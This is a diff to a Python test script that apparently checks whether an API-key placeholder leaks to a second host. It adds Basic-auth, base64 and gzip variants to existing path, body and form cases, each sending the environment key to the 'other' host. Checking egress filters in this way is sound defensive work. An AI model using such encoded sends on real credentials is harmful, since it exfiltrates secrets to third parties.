@@ -3,6 +3,8 @@
 /workspace/plan.json: {"own": host, "other": host}.
 """
 
+import base64
+import gzip
 import http.client
 import json
 import os
@@ -11,6 +13,7 @@ import time
 
 plan = json.load(open("/workspace/plan.json"))
 placeholder = os.environ["ANTHROPIC_API_KEY"]
+plain = placeholder.encode()
 encoded = "".join("%%%02X" % ord(char) for char in placeholder)
 context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
 
@@ -44,6 +47,9 @@ answers = {
     "path": said(other, "/a/" + encoded + "/b", method="GET"),
     "body": said(other, body=json.dumps({"key": placeholder})),
     "form": said(other, body="key=" + encoded, headers=form),
+    "basic": said(other, headers={"Authorization": "Basic " + base64.b64encode(b"u:" + plain).decode()}),
+    "base64": said(other, body=base64.encodebytes(b'{"env": "' + plain)),
+    "gzip": said(other, body=gzip.compress(plain), headers={"Content-Encoding": "gzip"}),
     "stream": said(other, body=pieces(), headers={"Content-Length": str(5009 + len(placeholder))}),
     "own query": said(own, "/?key=" + placeholder, method="GET"),
     "own body": said(own, body=json.dumps({"prompt": "my key is " + placeholder})),
